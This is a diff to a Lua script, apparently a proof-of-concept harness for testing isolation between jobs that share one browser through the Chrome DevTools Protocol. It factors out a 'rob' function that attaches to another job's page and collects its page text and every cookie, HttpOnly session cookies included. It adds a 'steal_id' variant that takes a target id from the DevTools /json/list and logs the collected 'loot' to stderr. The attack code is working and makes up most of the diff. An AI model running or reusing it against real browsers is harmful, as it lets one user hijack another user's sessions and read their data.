@@ -14,23 +14,33 @@ local function other_pages(page)
   return found
 end
 
+-- Attach to a page and read its DOM and every cookie of its context.
+local function rob(target_id, got)
+  local s = cdp.send("Target.attachToTarget", { targetId = target_id, flatten = true })
+  local dom = cdp.send("Runtime.evaluate", { expression = "document.body.innerText",
+    returnByValue = true }, { session = s.sessionId })
+  got[#got + 1] = "dom=" .. tostring(dom.result.value):gsub("%s+", " "):sub(1, 80)
+  local jar = cdp.send("Network.getAllCookies", {}, { session = s.sessionId })
+  for _, ck in ipairs(jar.cookies) do
+    got[#got + 1] = "cookie=" .. ck.name .. "=" .. ck.value .. (ck.httpOnly and "(httpOnly)" or "")
+  end
+end
+
 local ATTACKS = {
-  -- another job's page: its DOM and its HttpOnly session cookie
+  -- another job's page, found with Target.getTargets: its DOM and its
+  -- HttpOnly session cookie
   steal = function(page, a)
     local got = {}
     for _, t in ipairs(other_pages(page)) do
-      if t.url:find("/acme", 1, true) then
-        local s = cdp.send("Target.attachToTarget", { targetId = t.targetId, flatten = true })
-        local dom = cdp.send("Runtime.evaluate", { expression = "document.body.innerText",
-          returnByValue = true }, { session = s.sessionId })
-        got[#got + 1] = "dom=" .. tostring(dom.result.value):gsub("%s+", " "):sub(1, 80)
-        local jar = cdp.send("Network.getAllCookies", {}, { session = s.sessionId })
-        for _, ck in ipairs(jar.cookies) do
-          got[#got + 1] = "cookie=" .. ck.name .. "=" .. ck.value .. (ck.httpOnly and "(httpOnly)" or "")
-        end
-      end
+      if t.url:find("/acme", 1, true) then rob(t.targetId, got) end
     end
     return #got > 0 and table.concat(got, " ") or "no other job found"
+  end,
+  -- the same with a target id learnt elsewhere (the DevTools /json/list)
+  steal_id = function(page, a)
+    local got = {}
+    rob(a.target_id, got)
+    return table.concat(got, " ")
   end,
   -- the same through the browser-level domains
   storage = function(page, a)
@@ -84,6 +94,7 @@ function app.login(page, account)
 end
 
 function app.list_users(page)
+  log.warn("loot:" .. tostring(loot))   -- whole, on stderr (the table cuts columns)
   return { { email = "loot:" .. tostring(loot), roles = {} } }
 end
 
